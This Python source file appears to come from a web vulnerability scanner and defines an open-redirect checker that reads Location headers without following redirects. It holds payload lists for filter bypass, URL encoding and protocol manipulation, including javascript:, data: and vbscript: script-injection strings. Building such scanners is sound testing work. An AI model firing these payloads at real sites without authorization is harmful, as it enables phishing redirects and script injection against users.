"""Open Redirect checker: Location header analysis without following redirects."""

from typing import Any, Dict, List, Optional
from urllib.parse import quote

import httpx

from bughunt.checkers.base import BaseChecker
from bughunt.core.catalog import ALL, PayloadCatalog
from bughunt.core.errors import ValidationError
from bughunt.core.models import (
    BaselineData, CatalogEntry, Finding, Intensity, PayloadOutcome, Severity,
)

COMMON_REDIRECT_PARAMS = [
    "redirect", "url", "next", "return_to", "goto", "destination",
    "continue", "returnUrl", "redirect_uri", "callback", "forward", "target",
    "link", "site", "domain", "path", "location", "redir", "r", "u",
]

LABELS = {
    "basic": "Basic Redirect",
    "bypass": "Filter Bypass",
    "protocol": "Protocol Manipulation",
    "encoding": "URL Encoding",
    "advanced": "Advanced Bypass",
}

_DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")


def _enc(s: str) -> str:
    return quote(s, safe="!*'()")


def redirect_payloads(target: str) -> Dict[str, List[str]]:
    return {
        "basic": [target, f"//{target}", f"http://{target}", f"https://{target}"],
        "bypass": [
            f"/{target}",
            f".//{target}",
            f"../{target}",
            f".../{target}",
            f"/////{target}",
            f"\\\\{target}",
            f"\\/\\/{target}",
            f"/\\/{target}",
            f"//;@{target}",
            f"//@{target}",
            f"//google.com@{target}",
            f"//google.com.{target}",
        ],
        "protocol": [
            f"javascript:location='http://{target}'",
            f"data:text/html,<script>location='http://{target}'</script>",
            'vbscript:msgbox("XSS")',
            f"file:///{target}",
            f"ftp://{target}",
            f"//javascript:alert(1)@{target}",
        ],
        "encoding": [
            _enc(f"http://{target}"),
            _enc(f"//{target}"),
            f"%2F%2F{target}",
            f"%5C%5C{target}",
            f"%2F%5C%2F{target}",
            f"%E3%80%82{target}",  # ideographic full stop
            f"%EF%BC%8E{target}",  # fullwidth dot
            f"%E2%80%82{target}",  # en space
        ],
        "advanced": [
            f"http://google.com.{target}",
            f"http://{target}.google.com",
            f"http://google.com@{target}",
            f"http://google.com#@{target}",
            f"http://google.com?@{target}",
            f"http://google.com\\@{target}",
            f"http://google.com%23@{target}",
            f"http://google.com%3F@{target}",
            f"http://google.com%5C@{target}",
        ],
    }


def target_domain(redirect_target: str) -> str:
    """Bare host of a redirect target given as a domain or a URL."""
    raw = (redirect_target or "").strip()
    for prefix in ("http://", "https://"):
        if raw.lower().startswith(prefix):
            raw = raw[len(prefix):]
    return raw.split("/")[0].lower()


class OpenRedirect(BaseChecker):

    name = "Open Redirect"
    common_params = COMMON_REDIRECT_PARAMS
    caps = {Intensity.LOW: 15, Intensity.MEDIUM: 15, Intensity.HIGH: 15}
    # read the Location header, never visit the attacker host
    follow_redirects = False

    def __init__(self, url: str, redirect_target: str, parameters: Optional[str] = None,
                 test_type: str = ALL, timeout=10):
        super().__init__(url, parameters, Intensity.MEDIUM, timeout)
        if not redirect_target:
            raise ValidationError("URL and redirect target are required")
        self.redirect_target = redirect_target.strip()
        self.target_domain = target_domain(self.redirect_target)
        try:
            valid = bool(httpx.URL(f"http://{self.target_domain}").host)
        except httpx.InvalidURL:
            valid = False
        if not valid:
            raise ValidationError("Invalid URL format")

        test_type = str(test_type).lower()
        self.test_type = test_type if test_type == ALL or test_type in LABELS else "basic"
        self.original_host = httpx.URL(self.url).host.lower()
        self.catalog = PayloadCatalog(
            {tech: {"generic": payloads}
             for tech, payloads in redirect_payloads(self.target_domain).items()},
            labels=LABELS,
        )

    @classmethod
    def from_request(cls, data: Dict[str, Any]) -> "OpenRedirect":
        opt = cls.option
        return cls(
            url=data.get("url"),
            redirect_target=data.get("redirectTarget"),
            parameters=data.get("parameters"),
            test_type=opt(data, "testType", ALL),
            timeout=opt(data, "timeout", 10),
        )

    def get_payloads(self) -> List[CatalogEntry]:
        return self.catalog.base(self.test_type)

    def configuration(self) -> Dict[str, Any]:
        return {
            "redirectTarget": self.redirect_target,
            "testType": self.test_type,
        }

    @staticmethod
    def severity(payload: str, technique: str) -> Severity:
        if "Protocol" in technique or "javascript:" in payload or "data:" in payload:
            return Severity.HIGH
        if "Advanced" in technique or "Bypass" in technique:
            return Severity.MEDIUM
        return Severity.LOW

    def resolve_location(self, sent_url: str, location: str) -> Optional[httpx.URL]:
        # browsers treat backslashes in the Location as slashes
        normalized = location.strip().replace("\\", "/")
        try:
            return httpx.URL(sent_url).join(normalized)
        except httpx.InvalidURL:
            return None

    def evidence(self, sent_url: str, location: str) -> Optional[str]:
        if not location:
            return None
        lower = location.strip().lower()
        if lower.startswith(_DANGEROUS_SCHEMES):
            return f"Redirect to dangerous scheme: {location[:80]}"

        resolved = self.resolve_location(sent_url, location)
        if resolved is None or not resolved.host:
            return None
        host = resolved.host.lower()
        if host == self.target_domain:
            return f"Redirected to target domain: {host}"
        if host != self.original_host:
            return f"Redirected off-origin to: {host}"
        return None

    def classify(self, outcome: PayloadOutcome,
                 baseline: Optional[BaselineData] = None) -> Optional[Finding]:
        signal = outcome.response_signal
        req = outcome.request
        sent_url = signal.final_url or req.target_url
        evidence = self.evidence(sent_url, signal.location)
        if evidence is None:
            return None

        return self.finding(
            outcome,
            severity=self.severity(req.payload, req.label),
            evidence=evidence,
            discriminator=req.payload,
            redirect_url=sent_url,
            status_code=signal.status_code,
            bypass_technique=req.label,
            target_domain=self.target_domain,
            location=signal.location,
        )
